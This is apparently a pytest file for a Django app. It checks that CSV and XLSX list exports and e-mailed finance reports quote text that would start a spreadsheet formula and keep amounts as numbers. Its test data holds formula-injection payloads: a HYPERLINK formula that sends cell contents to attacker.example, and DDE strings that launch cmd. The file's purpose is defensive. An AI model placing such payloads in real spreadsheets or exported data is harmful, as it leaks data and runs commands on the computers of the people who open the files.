"""Every exported cell is inert: list exports (CSV, XLSX) and the e-mailed finance reports write
text that would start a formula with a leading single quote, and numbers as numbers. The files
are read back with openpyxl and csv, as a spreadsheet would open them."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook
from openpyxl import load_workbook

from core.exports import cell_value
from core.exports import csv_text
from core.exports import workbook_bytes
from finance import services as finance_services
from finance.choices import ReportOutcome
from tests.factories.finance import CostItemFactory
from tests.factories.finance import PeriodFactory
from tests.factories.finance import ReportDefinitionFactory
from tests.factories.portfolio import ContractFactory
from tests.factories.portfolio import CustomerFactory
from tests.factories.portfolio import ServiceFactory
from tests.factories.portfolio import SubscriptionFactory
from tests.factories.portfolio import SupplierFactory

# What an attacker would name a record: each starts a formula (or DDE) in some spreadsheet.
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
QUOTED = ["'" + text for text in HOSTILE]
# XML keeps no bare carriage return: an XLSX reads it back as a line feed.
QUOTED_IN_XLSX = [text.replace("\r", "\n") for text in QUOTED]


def test_text_that_starts_a_formula_gets_a_leading_quote():
    assert [cell_value(text) for text in HOSTILE] == QUOTED


def test_numbers_dates_and_ordinary_text_stay_as_they_are():
    values = [
        Decimal("-12.50"),
        -3,
        -0.5,
        True,
        datetime.date(2025, 1, 31),
        datetime.datetime(2025, 1, 31, 12, 0),
        None,
        "Claims",
        "a = b",
        "",
        "—",
    ]
    for value in values:
        assert cell_value(value) is value or cell_value(value) == value
    # Text that is only a number is read as that number, nothing more.
    for number in ("-12.50", "+7", "-1,234.5", "-.5"):
        assert cell_value(number) == number
    for almost in ("-1+1", "-1e3", "+A1", "-", "@"):
        assert cell_value(almost) == "'" + almost


def test_a_workbook_keeps_no_formula_whoever_wrote_the_cell():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([*HOSTILE, Decimal("-4.20"), 7])
    sheet.cell(row=2, column=1, value="=1+1")  # written directly, not through append
    assert sheet.cell(row=2, column=1).data_type == "f"
    reopened = load_workbook(io.BytesIO(workbook_bytes(workbook)))
    cells = [cell for row in reopened.active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    first = [cell.value for cell in reopened.active[1]]
    assert first == [*QUOTED_IN_XLSX, -4.2, 7]
    assert reopened.active["A2"].value == "'=1+1"


def test_csv_text_quotes_formulas_and_keeps_numbers():
    text = csv_text([[*HOSTILE, Decimal("-4.20"), None]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [[*QUOTED, "-4.20", ""]]


# --- The list exports ---------------------------------------------------------------------------


def xlsx_cells(response):
    assert "spreadsheetml" in response["Content-Type"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def csv_cells(response):
    assert response["Content-Type"].startswith("text/csv")
    rows = csv.reader(io.StringIO(response.content.decode(), newline=""))
    return [value for row in rows for value in row]


@pytest.mark.django_db
def test_service_list_exports_hostile_names_as_text(client, viewer):
    for number, text in enumerate(HOSTILE):
        ServiceFactory(name=text, slug=f"hostile-{number}")
    client.force_login(viewer)
    url = reverse("portfolio:service_list")

    cells = xlsx_cells(client.get(url, {"export": "xlsx"}))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert set(QUOTED_IN_XLSX) <= values
    assert not set(HOSTILE) & values

    values = set(csv_cells(client.get(url, {"export": "csv"})))
    assert set(QUOTED) <= values
    assert not set(HOSTILE) & values


@pytest.mark.django_db
def test_contract_and_customer_exports_keep_amounts_as_numbers(client, viewer):
    supplier = SupplierFactory(name="=cmd|' /C calc'!A0", slug="calc")
    ContractFactory(supplier=supplier, title="-1+1", annual_value=Decimal("12000.00"))
    customer = CustomerFactory(name="@evil", slug="evil")
    SubscriptionFactory(customer=customer)
    client.force_login(viewer)

    contracts = xlsx_cells(client.get(reverse("portfolio:contract_list"), {"export": "xlsx"}))
    values = [cell.value for cell in contracts]
    assert "'-1+1" in values and "'=cmd|' /C calc'!A0" in values
    assert 12000 in values  # a number cell, not text
    customers = xlsx_cells(client.get(reverse("portfolio:customer_list"), {"export": "xlsx"}))
    assert "'@evil" in [cell.value for cell in customers]
    assert any(isinstance(cell.value, int | float) and cell.value > 0 for cell in customers)
    assert not [cell for cell in contracts + customers if cell.data_type == "f"]


# --- The e-mailed finance reports ---------------------------------------------------------------


@pytest.mark.django_db
def test_finance_report_files_write_hostile_names_as_text_and_amounts_as_numbers():
    """The report's own name, a service's name and an owner's name are all text a user chose;
    a service without revenue has a negative margin, which stays a number."""
    january = PeriodFactory(year=2025, month=1)
    service = ServiceFactory(name=HOSTILE[0], slug="hyperlink")
    CostItemFactory(period=january, service=service, amount=Decimal("250.00"))
    finance_services.close_period(period=january)
    definition = ReportDefinitionFactory(name="=2+5", formats=["xlsx", "csv"])

    run = finance_services.run_report(definition, period="2025-01")

    assert run.outcome == ReportOutcome.SUCCEEDED, run.error
    files = {file.format: bytes(file.content) for file in run.files.all()}
    workbook = load_workbook(io.BytesIO(files["xlsx"]))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [(cell.parent.title, cell.coordinate) for cell in cells if cell.data_type == "f"]
    values = [cell.value for cell in cells]
    assert QUOTED[0] in values and HOSTILE[0] not in values
    assert any(isinstance(v, str) and v.startswith("'=2+5 · ") for v in values)  # the subtitle
    sheet = workbook["TCO by service"]
    headers = [cell.value for cell in sheet[4]]
    row = [cell.value for cell in sheet[5]]
    assert row[0] == QUOTED[0]
    assert row[headers.index("Margin")] == -250  # a number below zero, not text

    table = list(csv.DictReader(io.StringIO(files["csv"].decode("utf-8"))))
    assert table[0]["Service"] == QUOTED[0]
    assert table[0]["Margin"] == "-250.00"
